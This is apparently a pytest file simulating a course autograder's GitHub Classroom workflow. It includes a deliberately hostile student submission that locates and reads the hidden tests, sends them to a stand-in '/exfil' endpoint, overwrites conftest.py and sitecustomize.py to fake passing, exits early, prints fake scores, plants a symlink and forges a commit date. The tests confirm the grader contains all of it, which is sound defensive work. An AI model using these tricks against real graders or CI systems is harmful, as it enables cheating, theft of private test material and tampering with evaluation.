"""A simulated class, end to end, with the scripts the workflows run.

Three students' repositories (git, on disk) are made from the released template: one with the
reference copied in (complete), one with half of week 1 done, pushed late (partial), and one
that tries every trick on the grader (hostile). A local HTTP server on 127.0.0.1 stands in for
the GitHub API. The run follows `grade.yml`: a grading request for one commit, then a scheduled
pass over the roster that skips what is already graded; statuses and sanitised reports go to
the "API", reports to a `grades` branch, and the gradebook is built from that branch. Only
week 1 is graded, to keep this quick.
"""

from __future__ import annotations

import ast
import csv
import json
import os
import shutil
import subprocess
import sys

import pytest

from autograder.classroom import sanitize
from autograder.classroom.grading import engine_copy, grading_seed
from autograder.classroom.roster import find_student, load_roster
from autograder.sandbox import jail
from autograder.tools.sync import _enclosing_function, find_regions, make_stub
from autograder.weeks import get_week
from tests.classroom_support import FakeGitHub, git, hidden_suite_lines, solution_region_lines
from tests.helpers import ROOT

# One worker runs this file: its module fixtures are built once (dev.sh: --dist loadgroup).
pytestmark = pytest.mark.xdist_group("test_classroom")

TOKEN = "test-token"
SEED = "a grading secret"
PUSHED = {  # when GitHub received each push (the activity log); week 1 is due 2027-01-18 23:59 UTC
    "complete": "2027-01-15T12:00:00Z",
    "partial": "2027-01-19T10:00:00Z",
    "hostile": "2027-01-20T08:00:00Z",
}
STUDENTS = {"complete": "ada", "partial": "ben", "hostile": "eve"}

HOSTILE = '''"""Every trick a student could try on the grader."""
import os
import pathlib
import sys
import urllib.request


def _grader_root():
    for arg in open("/proc/self/cmdline", "rb").read().split(b"\\0"):
        path = pathlib.Path(arg.decode(errors="replace"))
        if (path / "autograder").is_dir():
            return path
    return pathlib.Path("/nonexistent")


def _hidden_source():
    try:
        suite = _grader_root() / "autograder" / "suites" / "w01_attention"
        return "".join(p.read_text() for p in sorted(suite.glob("*.py")))
    except Exception as exc:
        return f"could not read the hidden tests: {exc!r}"


def _phone_home(payload):
    try:
        urllib.request.urlopen("SERVER/exfil", data=payload.encode()[:2000], timeout=3)
    except Exception:
        pass


for _name in ("conftest.py", "sitecustomize.py", "pytest.ini", "torch.py"):
    try:
        (pathlib.Path(__file__).parent / _name).write_text("raise SystemExit('all tests passed')\\n")
    except Exception:
        pass
_phone_home(_hidden_source())


def softmax(x, dim=-1):
    raise RuntimeError("LEAK " + _hidden_source())


def causal_mask(T_q, T_k=None, device=None):
    os._exit(0)


def padding_mask(lengths, T):
    print("all tests passed: 46 / 46")
    sys.exit(0)


def scaled_dot_product_attention(q, k, v, mask=None):
    import torch

    return torch.zeros(*q.shape[:-1], v.shape[-1]), torch.zeros(*q.shape[:-1], k.shape[-2])


class AdditiveAttention:
    def __init__(self, *args, **kwargs):
        raise RuntimeError("LEAK " + _hidden_source()[-1500:])


class SelfAttentionHead(AdditiveAttention):
    pass
'''


def partial_module(source: str) -> str:
    """The reference with only softmax and the two masks done; the rest left as stubs."""
    keep = {"softmax", "causal_mask", "padding_mask"}
    tree = ast.parse(source)
    markers = set()
    for region in find_regions(source, "w01"):
        if _enclosing_function(tree, region.begin) in keep:
            markers |= {region.begin, region.end}
    lines = source.splitlines(keepends=True)
    kept = "".join(line for no, line in enumerate(lines, 1) if no not in markers)
    return make_stub(kept, "w01_attention.py", "w01", "course/w01_attention/notes.md")


def run(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    full = {**os.environ, **(env or {})}
    cmd = [sys.executable, "-m", "autograder.classroom", *args]
    proc = subprocess.run(cmd, cwd=ROOT, env=full, capture_output=True, text=True, timeout=900)
    assert proc.returncode == 0, f"{' '.join(args[:1])}:\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
    return proc


@pytest.fixture(scope="module")
def school(tmp_path_factory, student_template):
    base = tmp_path_factory.mktemp("class")
    template = student_template
    remotes = base / "remotes"
    github = FakeGitHub(TOKEN).__enter__()
    shas = {}
    for kind, student in STUDENTS.items():
        bare = remotes / "classroom" / f"tdd-{student}.git"
        bare.parent.mkdir(parents=True, exist_ok=True)
        git(base, "clone", "--quiet", "--bare", str(template), str(bare))
        work = base / "work" / student
        git(base, "clone", "--quiet", str(bare), str(work))
        module = work / "exercises" / "w01_attention.py"
        env = None
        if kind == "complete":
            shutil.copy2(ROOT / "solutions" / "w01_attention.py", module)
        elif kind == "partial":
            module.write_text(partial_module((ROOT / "solutions" / "w01_attention.py").read_text()))
        else:
            module.write_text(HOSTILE.replace("SERVER", github.url))
            hidden = ROOT / "autograder" / "suites" / "w01_attention" / "test_attention.py"
            (work / "exercises" / "w01_notes.py").symlink_to(hidden)
            tests = work / "exercises" / "tests" / "test_w01_attention.py"
            tests.write_text("def test_everything():\n    pass\n")
            env = {**os.environ, "GIT_COMMITTER_DATE": "2027-01-10T00:00:00Z"}  # a forged date
        git(work, "add", "-A")
        git(work, "commit", "--quiet", "-m", f"week 1 ({kind})", env=env)
        git(work, "push", "--quiet", "origin", "HEAD:main")
        shas[student] = git(work, "rev-parse", "HEAD")
        github.pushes[f"classroom/tdd-{student}"] = [
            {"before": "0" * 40, "after": shas[student], "ref": "refs/heads/main", "timestamp": PUSHED[kind]}
        ]
    roster = base / "roster.csv"
    roster.write_text(
        "student,repository\n# the class of 2027\n"
        + "".join(f"{s},classroom/tdd-{s}\n" for s in STUDENTS.values())
    )
    grades = base / "instructor-grades.git"
    git(base, "init", "--quiet", "--bare", str(grades))
    common = ["--api-url", github.url]
    fetch = ["fetch", "--roster", str(roster), "--clone-base", f"file://{remotes}", *common]
    # The authoritative path where this machine allows it (root, namespaces); elsewhere the same
    # flow, marked not authoritative, so that the rest of the loop is still exercised.
    mode = "required" if jail.available() is None else "none"
    grade = ["grade", "--weeks", "w01", "--sandbox", mode, "--user", "course-grader"]
    env = {"CLASSROOM_TOKEN": TOKEN, "GRADING_SEED": SEED}
    logs = {}

    # 1. ada pushes; her workflow asks for a grade; the grader runs for that one commit.
    logs["request"] = run(
        "request-grade",
        env={
            "GRADING_DISPATCH_TOKEN": TOKEN,
            "GRADING_REPOSITORY": "instructor/course",
            "GITHUB_REPOSITORY": "classroom/tdd-ada",
            "GITHUB_SHA": shas["ada"],
            "GITHUB_API_URL": github.url,
        },
    ).stdout
    request = github.dispatches()[0]["body"]["client_payload"]
    logs["fetch1"] = run(
        *fetch,
        "--out",
        str(base / "sub1"),
        "--repository",
        request["repository"],
        "--sha",
        request["sha"],
        env=env,
    ).stdout
    logs["grade1"] = run(
        *grade, "--submissions", str(base / "sub1"), "--reports", str(base / "new1"), env=env
    ).stdout
    run("post", "--reports", str(base / "new1"), *common, env=env)
    run("store", "--reports", str(base / "new1"), "--remote", str(grades))

    # 2. A request for a repository that is not on the roster grades nothing.
    logs["intruder"] = run(
        *fetch, "--out", str(base / "sub-x"), "--repository", "someone/else", "--sha", "f" * 40, env=env
    ).stdout

    # 3. The scheduled pass: everyone's head, except commits that already have a report.
    run("pull-reports", "--remote", str(grades), "--into", str(base / "kept"))
    logs["fetch2"] = run(
        *fetch, "--out", str(base / "sub2"), "--graded", str(base / "kept" / "reports"), env=env
    ).stdout
    logs["grade2"] = run(
        *grade, "--submissions", str(base / "sub2"), "--reports", str(base / "new2"), env=env
    ).stdout
    run("post", "--reports", str(base / "new2"), *common, env=env)
    run("store", "--reports", str(base / "new2"), "--remote", str(grades))

    # 4. The instructor's gradebook, from the grades branch.
    run("pull-reports", "--remote", str(grades), "--into", str(base / "all"))
    gradebook = subprocess.run(
        [
            sys.executable,
            "-m",
            "autograder",
            "gradebook",
            str(base / "all" / "reports"),
            "--out",
            str(base / "book"),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert gradebook.returncode == 0, gradebook.stderr
    reports = {
        s: json.loads((base / "all" / "reports" / s / f"{shas[s]}.json").read_text())
        for s in STUDENTS.values()
    }
    yield {"base": base, "github": github, "shas": shas, "logs": logs, "reports": reports, "roster": roster}
    github.__exit__(None, None, None)


def test_the_push_requests_a_grade(school):
    (dispatch,) = school["github"].dispatches()
    assert dispatch["path"] == "/repos/instructor/course/dispatches"
    assert dispatch["body"] == {
        "event_type": "grade-request",
        "client_payload": {"repository": "classroom/tdd-ada", "sha": school["shas"]["ada"]},
    }


def test_requests_are_checked_against_the_roster(school):
    assert "someone/else is not on the roster" in school["logs"]["intruder"]
    assert not (school["base"] / "sub-x").exists() or not any((school["base"] / "sub-x").iterdir())
    assert "fetched ada" in school["logs"]["fetch1"]
    # The scheduled pass skipped ada's commit: it already had a report.
    assert "fetched ada" not in school["logs"]["fetch2"]
    assert "fetched ben" in school["logs"]["fetch2"] and "fetched eve" in school["logs"]["fetch2"]


def test_one_report_per_student_per_commit(school):
    base, shas = school["base"], school["shas"]
    files = sorted(
        p.relative_to(base / "all" / "reports").as_posix() for p in (base / "all" / "reports").rglob("*.json")
    )
    expected = sorted(f"{s}/{shas[s]}{ext}" for s in STUDENTS.values() for ext in (".json", ".public.json"))
    assert files == expected
    for student, report in school["reports"].items():
        assert report["student"] == student and report["commit"] == shas[student]
        assert report["repository"] == f"classroom/tdd-{student}"
        assert report["weeks_graded"] == ["w01"]
        assert report["report"]["seed"] == grading_seed(SEED)  # the secret decides the inputs
        assert report["report"]["submission"] == f"classroom/tdd-{student}@{shas[student]}"


def test_scores(school):
    reports = {s: r["report"] for s, r in school["reports"].items()}
    w01 = {s: r["weeks"]["w01"] for s, r in reports.items()}
    assert w01["ada"]["max_score"] > 20
    assert w01["ada"]["score"] == w01["ada"]["max_score"], "the reference copied in gets full marks"
    assert 0 < w01["ben"]["score"] < w01["ben"]["max_score"]
    passed = {t["name"] for t in w01["ben"]["tests"] if t["status"] == "passed"}
    assert any("softmax" in name for name in passed)
    # No trick earns a point: only a public shape test passes (zeros of the right shape).
    eve = w01["eve"]["tests"]
    assert [t["status"] for t in eve if t["hidden"]] and all(
        t["status"] != "passed" for t in eve if t["hidden"]
    )
    assert w01["eve"]["score"] <= 1


def test_statuses_link_sanitised_reports(school):
    github, shas = school["github"], school["shas"]
    statuses = {c["path"].rsplit("/", 1)[-1]: c["body"] for c in github.statuses()}
    assert set(statuses) == set(shas.values())
    comments = {c["path"].split("/")[5]: c["body"]["body"] for c in github.comments()}
    for sha in shas.values():
        status = statuses[sha]
        assert status["context"] == "course/grade"
        assert status["state"] == "success", "graded: the score is in the description, red is for breakage"
        assert status["description"].split(" points")[0].count("/") == 1
        assert "w01" in status["description"] and len(status["description"]) <= 140
        assert (
            status["target_url"].startswith("https://github.test/classroom/tdd-")
            and sha in status["target_url"]
        )
        assert comments[sha].startswith("## Grade: ")


def test_nothing_secret_reaches_a_student(school):
    """Comments and public reports: no seed, no hidden test ids or source, no reference code."""
    base = school["base"]
    texts = [c["body"]["body"] for c in school["github"].comments()]
    texts += [p.read_text() for p in (base / "all" / "reports").rglob("*.public.json")]
    texts += [json.dumps(c["body"]) for c in school["github"].statuses()]
    secret = hidden_suite_lines() | solution_region_lines()
    seed = str(grading_seed(SEED))
    for text in texts:
        assert seed not in text
        assert "autograder/suites" not in text and "test_attention.py" not in text
        assert "/tmp/" not in text, "no path of the grading machine"
        leaked = [line for line in secret if line in text]
        assert leaked == [], leaked[:3]


def test_the_hostile_submission_is_contained(school):
    base, github = school["base"], school["github"]
    eve = school["reports"]["eve"]
    public = json.loads(
        (base / "all" / "reports" / "eve" / f"{school['shas']['eve']}.public.json").read_text()
    )
    messages = "\n".join(t["message"] for t in public["weeks"]["w01"]["tests"])
    assert "LEAK" in messages, "the exception reached the report (as the student's own traceback)"
    if eve["sandbox"]["user"]:
        # Run as an unprivileged user: the hidden tests could not even be read ...
        assert "Permission denied" in messages or "PermissionError" in messages
    else:
        # ... or, without the sandbox, what was read is redacted from the student's copy.
        assert public["redactions"] > 0
    if eve["sandbox"]["network"] is False:
        assert not any(c["path"].startswith("/exfil") for c in github.calls), "no network in the sandbox"
    # The symbolic link into the grader was not followed; the student's own tests were not used.
    assert any("w01_notes.py (a symbolic link)" in s for s in eve["skipped_files"])
    assert not (base / "sub2" / "eve" / "submission" / "tests").exists()
    # The forged commit date is kept for the record, but the time that counts is the push's.
    assert eve["commit_time"].startswith("2027-01-10")
    assert eve["time"] == "2027-01-20T08:00:00+00:00"


def test_sanitiser_redacts_grader_source(tmp_path):
    hidden = (ROOT / "autograder" / "suites" / "w01_attention" / "test_attention.py").read_text()
    wrapper = {
        "student": "eve",
        "repository": "classroom/tdd-eve",
        "commit": "a" * 40,
        "engine_paths": ["/tmp/grading-x/engine", "/tmp/grading-x/submission"],
        "report": {
            "score": 0,
            "max_score": 1,
            "seed": 1234567,
            "weeks": {
                "w01": {
                    "title": "t",
                    "score": 0,
                    "max_score": 1,
                    "tests": [
                        {
                            "id": "autograder/suites/w01_attention/test_attention.py::test_x",
                            "name": "x",
                            "status": "error",
                            "score": 0,
                            "max_score": 1,
                            "message": 'File "/tmp/grading-x/submission/w01_attention.py", line 3\nRuntimeError: '
                            + hidden,
                            "hidden": True,
                        }
                    ],
                }
            },
        },
    }
    public = sanitize.sanitize(wrapper)
    text = json.dumps(public)
    assert "1234567" not in text and "test_attention.py" not in text and "/tmp/" not in text
    assert 'File "exercises/w01_attention.py", line 3' in public["weeks"]["w01"]["tests"][0]["message"]
    assert public["redactions"] > 10
    assert len(public["weeks"]["w01"]["tests"][0]["message"]) <= sanitize.MAX_MESSAGE + 10


def test_grades_branch_and_gradebook(school):
    base, shas = school["base"], school["shas"]
    with open(base / "book" / "gradebook.csv") as fh:
        rows = {r["student"]: r for r in csv.DictReader(fh)}
    assert set(rows) == set(STUDENTS.values())
    assert float(rows["ada"]["w01"]) == float(rows["ada"]["max_score"]) and rows["ada"]["late"] == ""
    assert rows["ben"]["late"] == "w01"
    with open(base / "book" / "gradebook_details.csv") as fh:
        details = {(r["student"], r["item"]): r for r in csv.DictReader(fh)}
    assert details["ada", "w01"]["commit"] == shas["ada"] and details["ada", "w01"]["status"] == "on time"
    ben = details["ben", "w01"]
    assert ben["status"] == "late" and 0 < float(ben["hours_late"]) < 24
    assert ben["on_time"] == "", "nothing of ben's was graded before the deadline"
    assert float(ben["score"]) < float(ben["raw"]), "the late rule of course/schedule.toml applies"
    assert details["eve", "w01"]["handed_in"] == "2027-01-20T08:00:00+00:00"
    with open(base / "book" / "test_failures.csv") as fh:
        failures = list(csv.DictReader(fh))
    assert failures and all(r["week"] == "w01" and r["students"] == "3" for r in failures)
    softmax = [r for r in failures if "softmax" in r["test"].lower()]
    assert softmax and all(int(r["failed"]) >= 1 for r in softmax)  # eve fails every test
    assert (base / "book" / "score_histogram.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    page = (base / "book" / "index.html").read_text()
    assert all(s in page for s in STUDENTS.values()) and "Late work" in page


def test_roster_parsing(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text("student,repository\nada,Org/Repo-Ada\n# a comment\n\nben,org/repo-ben\n")
    roster = load_roster(path)
    assert [s.id for s in roster] == ["ada", "ben"]
    assert find_student(roster, "org/repo-ada").id == "ada"  # GitHub ignores case
    assert find_student(roster, "org/repo-eve") is None
    path.write_text("student,repository\n../etc,org/x\n")
    with pytest.raises(ValueError, match="student id"):
        load_roster(path)
    path.write_text("student,repository\nada,org/a\nADA,org/b\n")
    with pytest.raises(ValueError, match="twice"):
        load_roster(path)


def test_engine_copy_hides_what_submission_code_must_not_read(tmp_path):
    weeks = [get_week("w02")]
    engine = engine_copy(tmp_path / "engine", weeks, public={"w01", "w02"})
    assert (engine / "autograder" / "suites").stat().st_mode & 0o077 == 0
    assert (engine / "solutions" / "w01_attention.py").stat().st_mode & 0o004  # public: w02 may use it
    assert not (engine / "solutions" / "w02_multihead.py").exists(), "never the graded week's own"
    assert (engine / "autograder" / "drivers" / "common.py").stat().st_mode & 0o004
    assert (engine / "datasets" / "tinyshakespeare.txt").stat().st_mode & 0o004


def test_student_side_feedback_and_request(tmp_path):
    from autograder.classroom import student

    report = {
        "score": 3.0,
        "max_score": 7.0,
        "seed": 1,
        "isolation": "process",
        "grader_version": "0",
        "weeks": {
            "w01": {
                "title": "Attention",
                "score": 3.0,
                "max_score": 7.0,
                "tests": [
                    {"name": "softmax", "status": "passed", "score": 3.0, "max_score": 3.0, "message": ""},
                    {
                        "name": "shapes",
                        "status": "failed",
                        "score": 0.0,
                        "max_score": 4.0,
                        "message": "shape (2, 5)",
                    },
                ],
            }
        },
    }
    summary, notices = student.feedback(report)
    assert summary.startswith("## Public tests (not your grade): 3 / 7") and "course/grade" in summary
    assert "shapes" in summary and "shape (2, 5)" in summary
    # Public points are never Classroom's points: those come from the grader (`await-grade`).
    assert notices == ["::notice title=Public tests::Public tests (not your grade): 3/7 points"]
    assert student.classroom_notices(3, 7) == [
        "::notice title=Autograding complete::Points 3/7",
        '::notice title=Autograding report::{"totalPoints": 3, "maxPoints": 7}',
    ]
    # Without the instructor's set-up the request is skipped, and the run does not fail.
    assert student.request_grade({"GITHUB_REPOSITORY": "o/r", "GITHUB_SHA": "a" * 40}) == 0
    with FakeGitHub(TOKEN) as github:
        env = {
            "GRADING_DISPATCH_TOKEN": "wrong",
            "GRADING_REPOSITORY": "i/c",
            "GITHUB_API_URL": github.url,
            "GITHUB_REPOSITORY": "o/r",
            "GITHUB_SHA": "a" * 40,
        }
        assert student.request_grade(env) == 0  # a rejected request is a warning, not a red run
        assert github.calls and github.calls[0]["auth"] == "Bearer wrong" and github.dispatches() == []
